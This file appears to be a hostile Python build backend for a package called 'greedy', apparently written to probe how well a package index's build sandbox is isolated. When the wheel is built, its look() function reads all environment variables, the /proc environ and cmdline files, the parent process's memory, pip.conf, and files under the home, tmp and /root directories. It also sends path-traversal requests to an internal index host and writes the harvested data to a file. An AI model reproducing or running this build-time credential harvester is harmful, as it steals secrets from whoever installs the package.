"""The build of a hostile package: it looks for the index's password wherever it can, writes down all it saw, and builds."""

import glob
import os
import sys
import urllib.request
import zipfile


def look():
    seen = [repr(dict(os.environ)), repr(sys.argv)]
    places = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/task/*/environ")
    home = os.environ["HOME"]
    places.append("/etc/pip.conf")
    for top in (home, os.path.dirname(home), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/root"):
        for directory, _, names in os.walk(top):
            places += [os.path.join(directory, name) for name in names][:2000]
    for place in places + ["/proc/%d/mem" % os.getppid(), "/proc/%d/environ" % os.getppid()]:
        try:
            if os.path.realpath(place).endswith("/seen"):
                continue
            descriptor = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
            with open(descriptor, "rb") as file:
                seen.append(place + " " + (file.read(1 << 20) or b"").decode("latin1"))
        except OSError:
            pass
    for method, path in (("GET", "/api/v4/user"), ("GET", "/team/%2e%2e/api"), ("POST", "/team/simple/greedy/")):
        try:
            request = urllib.request.Request("http://0.index.cooper.internal" + path, method=method, data=b"x" if method == "POST" else None)
            seen.append("reached " + path + " " + urllib.request.urlopen(request, timeout=10).read().decode())
        except OSError as error:
            seen.append("refused %s %s" % (path, error))
    with open(os.path.join(home, "seen"), "a") as file:
        file.write("\n".join(seen))


def build_wheel(directory, *_, **__):
    look()
    info = "greedy-1.0.dist-info/"
    with zipfile.ZipFile(directory + "/greedy-1.0-py3-none-any.whl", "w") as wheel:
        written = {"greedy.py": "", info + "METADATA": "Metadata-Version: 2.1\nName: greedy\nVersion: 1.0\n",
                   info + "WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
        written[info + "RECORD"] = "".join("%s,,\n" % path for path in written) + info + "RECORD,,\n"
        for path, text in written.items():
            wheel.writestr(path, text)
    return "greedy-1.0-py3-none-any.whl"
